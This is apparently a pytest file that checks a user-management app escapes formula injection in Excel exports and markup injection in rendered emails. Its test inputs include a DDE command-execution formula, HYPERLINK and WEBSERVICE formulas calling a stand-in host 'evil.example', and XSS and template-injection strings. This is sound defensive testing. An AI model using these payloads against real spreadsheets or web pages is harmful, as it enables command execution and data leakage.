"""Texts that would be formulas in a spreadsheet or markup in a mail stay texts."""

import io
import re
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from muster.clock import now
from muster.enterprises import Enterprise
from muster.mails import render
from muster.mails.task_notices import import_mail
from muster.messages import label, message
from muster.spreadsheets.report import Report
from muster.spreadsheets.rows import SheetRow
from muster.tasks.notices import About, TaskNotice
from muster.tasks.rows import RowStatus
from muster.tasks.table import Task
from muster.users.repository import find_user
from muster.users.user import Notice, NoticeKind
from tests.functional.api import Client
from tests.functional.exports import ExportDesk
from tests.functional.people import person

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "{=1+1}",
    "#N/A",
    "TRUE",
    "\uff1d1+1",
    "_x003D_1+1",
    "'=1+1",
]
MARKUP = "<script>alert(1)</script>&amp;<img src=x onerror=y>\"'{{ 7*7 }}"


def cells_of(content: bytes) -> list[tuple[str, object]]:
    """Every cell of the sheet with users, with its type, as a spreadsheet program reads it."""
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Users"]
    return [
        (cell.data_type, cell.value) for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None
    ]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_result_is_a_formula(text: str) -> None:
    file = io.BytesIO()
    with Report(file) as report:
        report.add(
            SheetRow(2, dict.fromkeys(("name", "email", "department", "remarks"), text)),
            RowStatus.FAILED,
            [label("{text}", text=text)],
        )
        report.close()
    cells = cells_of(file.getvalue())
    assert len(cells) == 7
    assert all(kind == "s" for kind, _ in cells)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(text: str, admin: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    name = "Ann" if "://" in text else text.strip()  # no name holds a link
    person("ann", name=name, remarks=text, signature=text)
    desk = ExportDesk()
    monkeypatch.setattr("muster.gateways.live.export_queue", lambda: desk.queue)
    assert admin("POST", "/v1/exports", {}).status == 202
    desk.deliver()
    cells = cells_of(desk.content())
    assert all(kind == "s" for kind, _ in cells)
    assert text.strip() in [unescape(str(value)).strip() for _, value in cells]


def test_markup_in_a_name_or_an_enterprise_shows_as_it_is_in_every_mail(acme: Enterprise) -> None:
    acme.name = MARKUP
    person("ann", name=MARKUP[:60])
    user = find_user("ann")
    assert user is not None
    notice = Notice(kind=NoticeKind.ADDRESS_CHANGED, address="a@example.com", by="admin", at=now())
    told = message("problem", "{text}", text=MARKUP)
    task = Task("acme", "id", file_name=MARKUP, created_by=MARKUP, creator_id="id", state="failed", problem=told)
    notes: Any = [told]
    task.notes = notes
    for language in ("en", "zh"):
        acme.language = language
        mails = [
            render.invitation(user, acme, "token"),
            render.initial_password(user, acme, "<b>pass</b>"),
            render.password_reset(user, acme, "<b>pass</b>"),
            render.welcome(user, acme),
            render.forgotten_password(user, acme, "123456"),
            render.notice(user, acme, notice),
            import_mail(task, acme, TaskNotice(About.END), user),
            import_mail(task, acme, TaskNotice(About.PLAN, braked=True), "a@example.com"),
        ]
        for mail in mails:
            assert not re.search(r"<script|<img src=x|<b>pass", mail.html)
            assert "49" not in mail.html.replace("&#39;", "")  # what {{ 7*7 }} would have become
            assert "{{ 7*7 }}" in mail.html
            assert "\n" not in mail.subject
            assert "\r" not in mail.subject
